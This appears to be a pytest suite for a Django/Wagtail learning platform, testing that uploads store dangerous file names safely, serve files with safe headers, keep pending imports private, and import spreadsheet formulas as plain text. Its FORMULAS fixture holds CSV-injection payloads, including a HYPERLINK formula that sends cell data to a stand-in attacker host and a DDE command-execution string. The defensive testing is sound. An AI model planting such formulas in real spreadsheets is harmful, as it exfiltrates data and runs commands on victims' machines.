def good_file(surface: Surface, w: World, template: str) -> Upload:
    """A file the surface accepts, called ``template`` with its extension filled in."""
    if surface.family == "import":
        return Upload(template.format(ext="csv"), csv_bytes(surface.rows(w)), "text/csv")
    if surface.family in ("image", "avatar"):
        return Upload(template.format(ext="png"), png_bytes(), PNG_TYPE)
    if surface.field == "credential_file":
        return Upload(template.format(ext="json"), _credential(w), "application/json")
    if surface.family == "verify":
        return Upload(template.format(ext="pdf"), _transcript_pdf(w), PDF_TYPE)
    return Upload(template.format(ext="pdf"), PDF, PDF_TYPE)


def name_cells() -> list:
    """Every name on one surface of the validator (it shows the cleaned name back); three on the others."""
    return [
        pytest.param(surface, name, id=f"{surface}|{name}")
        for surface in SURFACES
        for name in (NAMES if surface == "artefact create" else FEW_NAMES)
    ]


@pytest.mark.parametrize(("surface_name", "name"), name_cells())
def test_a_dangerous_file_name_is_stored_under_a_safe_one(w, surface_name, name):
    surface = SURFACES[surface_name]
    sent, shown = NAMES[name]
    response, _rows, files = send(surface, w, good_file(surface, w, sent))
    assert accepted(surface, response), answered(response)
    if surface.family == "verify":
        assert verdict(response) == "Valid", answered(response)
    _root, relative = assert_stored_safely(surface, new_files(files))
    if surface.newest is not None:
        stored_name, shown_name = surface.newest()
        assert stored_name == relative
        assert shown_name == shown.format(ext="pdf")


# --- Limits: the message tells the file's size apart from the limit ----------------------------------------------


@pytest.mark.parametrize("surface_name", [name for name, s in SURFACES.items() if s.family == "validator"])
def test_a_file_just_over_the_limit_is_told_its_own_size(w, surface_name):
    """1,048,577 bytes against a limit of 1,048,576: "The file is 1.0 MB; files can be at most 1.0 MB." tells the
    person nothing. The size shown must differ from the limit shown (courses/uploads.py, ``too_large``)."""
    surface = SURFACES[surface_name]
    response, _rows, _files = send(surface, w, Upload("big.pdf", padded(PDF, MIB + 1), PDF_TYPE))
    found = re.search(r"The file is (.+?); files can be at most (.+?)\.(?: |$)", page_text(response))
    assert found, answered(response)
    size, limit = found.groups()
    assert size != limit, found.group(0)


# --- What a wrong Content-Type header changes: nothing -------------------------------------------------------------

DOWNLOADS = {
    "artefact create": lambda: reverse("portfolios:version_file", args=[ArtefactVersion.objects.latest("pk").pk]),
    "submission": lambda: reverse("participation:submission_file", args=[Submission.objects.latest("pk").pk]),
}


@pytest.mark.parametrize("surface_name", DOWNLOADS)
def test_a_file_sent_as_html_is_served_for_what_it_is(w, surface_name):
    surface = SURFACES[surface_name]
    response, _rows, _files = send(surface, w, Upload("report.pdf", PDF, "text/html"))
    assert accepted(surface, response), answered(response)
    download = client_for(w, surface.role).get(DOWNLOADS[surface_name]())
    assert download.status_code == 200
    assert download["Content-Type"] == PDF_TYPE
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Disposition"].startswith("attachment;")
    assert b"".join(download.streaming_content) == PDF


# --- Imports: formulas are text, never evaluated; refused previews keep nothing ------------------------------------


def preview(w: World, surface: Surface, file: Upload, client: Client):
    response, _rows, _files = send(surface, w, file, client)
    assert response.status_code == 200, answered(response)
    return response


def confirm(w: World, surface: Surface, response, client: Client):
    """Confirm the preview in ``response``, in the session that uploaded it."""
    token = soup(response).select_one("input[name=token]")
    assert token is not None, answered(response)
    return client.post(surface.url(w), {"token": token["value"]})


#: Cells a spreadsheet would run as formulas if they were written back out unprotected.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def test_formulas_in_a_roster_csv_are_imported_as_text(w):
    surface = SURFACES["roster import"]
    rows = [["student_number", "family_name", "given_name"]]
    rows += [[f"20249999{index:02d}", formula, "小明"] for index, formula in enumerate(FORMULAS)]
    teacher = client_for(w, surface.role)
    response = preview(w, surface, Upload("roster.csv", csv_bytes(rows), "text/csv"), teacher)
    shown = [cell.get_text() for cell in soup(response).select(".import-preview tbody tr td:nth-of-type(3)")]
    assert shown == FORMULAS
    assert confirm(w, surface, response, teacher).status_code == 302
    users = get_user_model().objects.filter(username__startswith="20249999").order_by("username")
    assert [user.last_name for user in users] == FORMULAS


def test_formula_cells_in_a_roster_workbook_are_never_evaluated(w):
    """A text cell that starts with "=" is text; a real formula cell gives only the result Excel cached in the file
    (none: an empty cell), never one computed on the server."""
    surface = SURFACES["roster import"]
    content = xlsx_bytes(
        [
            ["student_number", "family_name", "given_name"],
            ["2024999901", "=1+2", Formula('"Mal"&"lory"')],  # no cached result
            ["2024999902", "@SUM(A1)", Formula("1+1", cached="2")],
        ]
    )
    teacher = client_for(w, surface.role)
    response = preview(w, surface, Upload("roster.xlsx", content, XLSX_TYPE), teacher)
    assert confirm(w, surface, response, teacher).status_code == 302
    users = get_user_model().objects.filter(username__in=["2024999901", "2024999902"]).order_by("username")
    assert [(user.last_name, user.first_name) for user in users] == [("=1+2", ""), ("@SUM(A1)", "2")]


@pytest.mark.parametrize(
    ("surface_name", "message"),
    [
        ("result import", "“=1+2” is not a number."),
        ("competition result import", "Score “=1+2” is not a number."),
    ],
)
def test_a_formula_in_place_of_a_score_is_refused_and_nothing_is_kept(w, surface_name, message):
    """The preview says "nothing has been saved"; the uploaded file must not be kept either (courses/views.py,
    ``BaseImportView.post`` saves it to storage before it knows whether the preview can be confirmed)."""
    surface = SURFACES[surface_name]
    rows = surface.rows(w)
    rows[1][-1] = "=1+2"
    response, before, files = send(surface, w, Upload("scores.csv", csv_bytes(rows), "text/csv"))
    assert response.status_code == 200
    assert says(response, message), answered(response)
    assert says(response, "Fix the rows below and upload the file again; nothing has been saved.")
    assert not accepted(surface, response)
    assert row_counts() == before
    assert stored_files() == files, f"a refused preview left files behind: {new_files(files)}"


def field_error(response, name: str) -> str:
    """The error a Wagtail admin form shows on field ``name`` ("" when none)."""
    found = soup(response).select(f'[data-contentpath="{name}"] .error-message')
    return " ".join(" ".join(error.get_text().split()) for error in found)


@pytest.mark.parametrize("surface_name", [name for name, s in SURFACES.items() if s.family == "import"])
def test_a_csv_with_a_cell_over_the_csv_modules_limit_is_refused_on_the_form(w, surface_name):
    """131,073 characters in one cell (Python's csv module stops at 131,072 and raises ``_csv.Error``): a file
    well under the size limit must come back with an error on the file field, not a server error
    (courses/imports.py, ``_csv_rows``, lets ``csv.Error`` escape)."""
    surface = SURFACES[surface_name]
    rows = surface.rows(w)
    rows[1][-1] = "9" * 131_073
    response, before, files = send(surface, w, Upload("scores.csv", csv_bytes(rows), "text/csv"))
    assert response.status_code == 200, answered(response)
    assert not accepted(surface, response)
    assert field_error(response, "file"), answered(response)
    assert (row_counts(), stored_files()) == (before, files)


@pytest.mark.parametrize("surface_name", [name for name, s in SURFACES.items() if s.family == "import"])
def test_an_import_waiting_for_confirmation_is_kept_out_of_public_media(w, surface_name):
    """A roster holds students' numbers, names and e-mail addresses: while it waits for the teacher's
    confirmation it belongs in private storage, never under MEDIA_ROOT (served at MEDIA_URL; lms/urls.py serves
    it itself when DEBUG is on). courses/views.py, ``BaseImportView.post``, saves it with ``default_storage``."""
    surface = SURFACES[surface_name]
    response, _rows, files = send(surface, w, good_file(surface, w, "table.{ext}"))
    assert accepted(surface, response), answered(response)
    ((root, relative),) = new_files(files)
    assert root.startswith("private"), f"{relative} waits in {root}"


@pytest.mark.parametrize("surface_name", [name for name, s in SURFACES.items() if s.family == "import"])
def test_a_confirmed_import_removes_the_file_it_waited_in(w, surface_name):
    surface = SURFACES[surface_name]
    teacher = client_for(w, surface.role)
    files = stored_files()
    response = preview(w, surface, good_file(surface, w, "table.{ext}"), teacher)
    assert confirm(w, surface, response, teacher).status_code == 302
    assert stored_files() == files


# --- The table is complete -------------------------------------------------------------------------------------------

SURFACE_ROUTES = {surface.route for surface in SURFACES.values()}
PROBE_ORDER = ("owner", "teacher", "anonymous", "mentor", "judge", "employer", "other_student", "other_teacher")


def takes_a_file(form: forms.BaseForm) -> bool:
    return any(isinstance(field, forms.FileField) for field in form.fields.values())


def file_form_targets(response, address: str) -> set[str]:
    """The routes the answer's multipart forms with a file input post to (a form without an action posts back)."""
    kind = response.get("Content-Type", "")
    if response.streaming or not kind.startswith(("text/html", "application/json")):
        return set()
    targets = set()
    for form in soup(response).select("form"):
        if (form.get("enctype") or "").lower() != "multipart/form-data" or not form.select("input[type=file]"):
            continue
        path = urlparse(form.get("action") or address).path
        try:
            targets.add(resolve(path).view_name)
        except Resolver404:
            targets.add(f"(unresolved) {path}")
    return targets


@pytest.fixture
def forms_built(monkeypatch) -> list[forms.BaseForm]:
    """Every Django form built from now on (whatever its class, wherever the view builds it)."""
    built: list[forms.BaseForm] = []
    original = forms.BaseForm.__init__

    def recording(self, *args, **kwargs):
        original(self, *args, **kwargs)
        built.append(self)

    monkeypatch.setattr(forms.BaseForm, "__init__", recording)
    return built


@pytest.mark.parametrize("route", sorted(MATRIX))
def test_the_table_lists_every_project_route_that_takes_a_file(w, route, forms_built):
    """The authorisation matrix lists every project route; each one is opened (GET) by a role that may, and
    POSTed with the matrix's data by a role that may. A route that builds a form with a file field while it
    answers the POST is a surface; every file form on its page posts to a surface."""
    entry = MATRIX[route]
    reader = next((role for role in PROBE_ORDER if entry.get[role] == 200), None)
    if reader is not None:
        address = entry.url(w)
        targets = file_form_targets(client_for(w, reader).get(address), address)
        unknown = targets - SURFACE_ROUTES - set(LEFT_OUT)
        assert not unknown, f"{route}'s page has file forms posting to routes missing from SURFACES: {unknown}"
    cells_ = post_cells(entry)
    writer = next((role for role in PROBE_ORDER if cells_.get(role) in (200, 302)), None)
    if writer is None:
        assert route not in SURFACE_ROUTES, f"{route} is a surface but nobody may POST to it"
        return
    forms_built.clear()
    client_for(w, writer).post(entry.url(w), entry.data(w))
    with_files = sorted({type(form).__name__ for form in forms_built if takes_a_file(form)})
    if route in SURFACE_ROUTES:
        assert with_files, f"{route} is a surface but builds no form with a file field"
    else:
        assert not with_files, f"{route} takes a file ({with_files}): add it to SURFACES"


#: Pages outside the project the crawl must not open: one fails on purpose, and Wagtail's logout signs the
#: administrator out even when it answers a GET with 405.
NOT_CRAWLED = {"wagtailadmin_error_test", "wagtailadmin_logout", "admin:logout"}


def test_every_file_form_in_the_admin_posts_to_a_listed_route(w):
    """Wagtail's and Django's admin pages that need no URL argument, opened by the site administrator (who may do
    everything): each multipart form with a file input must post to a surface or to a route in LEFT_OUT. Routes
    with arguments (the edit views) are listed in SURFACES by hand."""
    client = client_for(w, "admin")
    client.raise_request_exception = False
    targets: dict[str, set[str]] = {}
    for route in all_routes():
        if route.module.split(".")[0] in PROJECT_PACKAGES or route.name in (NOT_CRAWLED | {route.pattern}):
            continue
        if "<" in route.pattern or "^" in route.pattern or not route.pattern.startswith(("admin/", "django-admin/")):
            continue
        if route.name.endswith("results"):  # the listing fragment of an index page the crawl opens anyway
            continue
        address = reverse(route.name)
        response = client.get(address)
        if response.status_code == 200:
            for target in file_form_targets(response, address):
                targets.setdefault(target, set()).add(route.name)
    unknown = {target: pages for target, pages in targets.items() if target not in SURFACE_ROUTES | set(LEFT_OUT)}
    assert not unknown, f"file forms posting to routes missing from SURFACES or LEFT_OUT: {unknown}"
    assert {"wagtailimages:add", "wagtaildocs:add", "wagtailadmin_account"} <= set(targets)  # the crawl works


def project_form_classes() -> set[type[forms.BaseForm]]:
    for package in PROJECT_PACKAGES:
        for info in pkgutil.walk_packages(importlib.import_module(package).__path__, prefix=f"{package}."):
            if not {"migrations", "settings", "wsgi", "asgi"} & set(info.name.split(".")):
                importlib.import_module(info.name)

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    return {cls for cls in subclasses(forms.BaseForm) if cls.__module__.split(".")[0] in PROJECT_PACKAGES}


def test_every_project_form_with_a_file_field_belongs_to_a_surface():
    with_files = {
        cls
        for cls in project_form_classes()
        if any(isinstance(field, forms.FileField) for field in getattr(cls, "base_fields", {}).values())
    }
    listed = {cls for surface in SURFACES.values() for cls in surface.form_classes}
    assert not with_files - listed, f"forms with a file field on no surface: {with_files - listed}"
    assert not listed - with_files, f"SURFACES names forms without a file field: {listed - with_files}"


def test_every_project_model_file_field_is_filled_by_a_surface_or_by_the_server():
    found = {
        f"{model._meta.label}.{model_field.name}"
        for model in apps.get_models()
        if model.__module__.split(".")[0] in PROJECT_PACKAGES
        for model_field in model._meta.get_fields()
        if isinstance(model_field, models.FileField)
    }
    assert found == set(MODEL_FILE_FIELDS)
    assert {surface for surface in MODEL_FILE_FIELDS.values() if surface} <= set(SURFACES)


def test_every_listed_route_exists():
    names = {route.name for route in all_routes()}
    assert not (SURFACE_ROUTES | set(LEFT_OUT)) - names
